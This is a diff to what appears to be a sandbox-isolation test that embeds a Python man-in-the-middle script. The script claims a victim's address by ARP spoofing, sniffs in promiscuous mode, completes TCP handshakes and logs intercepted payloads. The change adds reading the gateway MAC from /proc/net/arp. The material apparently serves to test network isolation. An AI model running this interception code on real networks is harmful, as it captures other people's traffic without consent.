@@ -38,7 +38,8 @@ EOF`
 
 // mitm runs as root in the attacker's sandbox. On a raw socket it claims
 // the victim's address to the host (gratuitous ARP, and ARP replies sent
-// straight to the gateway), sniffs eth0 in promiscuous mode, completes TCP
+// straight to the gateway, whose MAC it learns by ARP or from its own
+// neighbour table), sniffs eth0 in promiscuous mode, completes TCP
 // handshakes addressed to the victim itself so the host sends the request,
 // and writes every TCP payload addressed to the victim to a file. It ends
 // by printing how far it got.
@@ -80,6 +81,10 @@ def tcp(dst_mac, src, dst, sport, dport, seq, ack, flags):
 
 out = open(out_path, "ab", buffering=0)
 gw_mac, claims, seen, end, next_claim = None, 0, 0, time.time() + seconds, 0
+for line in open("/proc/net/arp").read().splitlines()[1:]:  # a static entry needs no ARP
+    f = line.split()
+    if f[0] == gw and f[3] != "00:00:00:00:00:00":
+        gw_mac = bytes.fromhex(f[3].replace(":", ""))
 while time.time() < end:
     if time.time() >= next_claim:
         s.send(arp(2, bc, vip, bc, vip))
